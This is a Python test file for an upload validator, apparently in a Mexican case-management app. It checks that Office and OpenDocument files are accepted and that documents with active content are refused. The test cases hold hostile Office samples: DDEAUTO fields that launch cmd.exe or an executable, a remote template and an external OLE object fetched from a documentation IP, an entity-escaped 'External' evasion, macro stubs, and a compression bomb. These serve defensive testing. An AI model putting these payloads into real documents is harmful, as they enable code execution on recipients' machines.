"""Office documents (Word, Excel, OpenDocument) are accepted as sent, unless they carry active content or are bombs."""
from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook

from dfi_casos.documents.content import DOCX, ODT, XLSX, DocumentError, check_upload

LIMIT = 5 * 1024 * 1024
CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                 'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                 'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/'
                 'word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.'
                 '{main}+xml"/></Types>')
ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
             '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
             'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
DOCUMENT = ('<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Oficio de respuesta</w:t></w:r></w:p></w:body>'
            '</w:document>')


def docx(extra: dict[str, str | bytes] | None = None, main: str = "document.main") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=main))
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("word/document.xml", DOCUMENT)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def document_rels(relationship: str) -> dict[str, str]:
    return {"word/_rels/document.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxml'
                                            f'formats.org/package/2006/relationships">{relationship}</Relationships>'}


def test_word_excel_and_opendocument_are_accepted_as_sent() -> None:
    data = docx()
    checked = check_upload("respuesta del DIF.docx", data, max_bytes=LIMIT, max_pixels=10**7)
    assert (checked.mime, checked.name, checked.data) == (DOCX, "respuesta del DIF.docx", data)
    book = Workbook()
    book.active["A1"] = "Lista de familias"
    sheet = io.BytesIO()
    book.save(sheet)
    assert check_upload("lista", sheet.getvalue(), max_bytes=LIMIT, max_pixels=10**7).name == "lista.xlsx"
    odt = io.BytesIO()
    with zipfile.ZipFile(odt, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:"
                                        "xmlns:office:1.0'/>")
    checked = check_upload("acta.doc", odt.getvalue(), max_bytes=LIMIT, max_pixels=10**7)
    assert checked.mime == ODT and checked.name == "acta.odt"
    assert XLSX.endswith("sheet")


def test_a_link_to_a_web_page_is_fine() -> None:
    link = ('<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'hyperlink" Target="https://www.gob.mx/segob" TargetMode="External"/>')
    assert check_upload("con liga.docx", docx(document_rels(link)), max_bytes=LIMIT, max_pixels=10**7).mime == DOCX


@pytest.mark.parametrize("extra,main", [
    ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}, "document.main"),
    ({}, "document.macroEnabled.main"),
    ({"word/activeX/activeX1.xml": "<ax/>"}, "document.main"),
    ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 program"}, "document.main"),
    (document_rels('<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                   'relationships/attachedTemplate" Target="http://203.0.113.9/plantilla.dotm" '
                   'TargetMode="External"/>'), "document.main"),
    (document_rels('<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                   'relationships/oleObject" Target="http://203.0.113.9/x" TargetMode="&#69;xternal"/>'),
     "document.main"),
    ({"word/header1.xml": '<w:hdr xmlns:w="x"><w:fldSimple w:instr=\' DDEAUTO c:\\\\windows\\\\system32\\\\'
                          'cmd.exe "/k calc"\'/></w:hdr>'}, "document.main"),
    ({"word/footer1.xml": '<w:ftr xmlns:w="x"><w:p><w:r><w:instrText> DD</w:instrText></w:r>'
                          '<w:r><w:instrText>EAUTO c:\\\\x.exe</w:instrText></w:r></w:p></w:ftr>'},
     "document.main"),
], ids=["vba", "macro-enabled", "activex", "ole-object", "remote-template", "escaped-external", "dde-field",
        "dde-split-across-runs"])
def test_active_content_is_refused_with_what_to_do(extra, main) -> None:
    with pytest.raises(DocumentError, match="Guárdelo como PDF") as refused:
        check_upload("oficio.docx", docx(extra, main), max_bytes=LIMIT, max_pixels=10**7)
    assert refused.value.field == "file"


def test_a_compression_bomb_and_a_damaged_file_are_refused() -> None:
    bomb = docx({"word/media/relleno.xml": "0" * (2 * 1024 * 1024)})
    assert len(bomb) < 64 * 1024
    with pytest.raises(DocumentError, match="se expande demasiado"):
        check_upload("bomba.docx", bomb, max_bytes=64 * 1024, max_pixels=10**7)
    whole = docx({"word/media/foto.bin": bytes(range(256)) * 200})  # the type is read from the first bytes
    with pytest.raises(DocumentError, match="dañado"):
        check_upload("cortado.docx", whole[:-200], max_bytes=LIMIT, max_pixels=10**7)


def test_the_word_dde_in_the_text_is_not_a_field() -> None:
    text = {"word/footer1.xml": '<w:ftr xmlns:w="x"><w:p><w:r><w:t>Oficio DDE/123 del DIF</w:t></w:r></w:p>'
                                '</w:ftr>'}
    assert check_upload("oficio.docx", docx(text), max_bytes=LIMIT, max_pixels=10**7).mime == DOCX
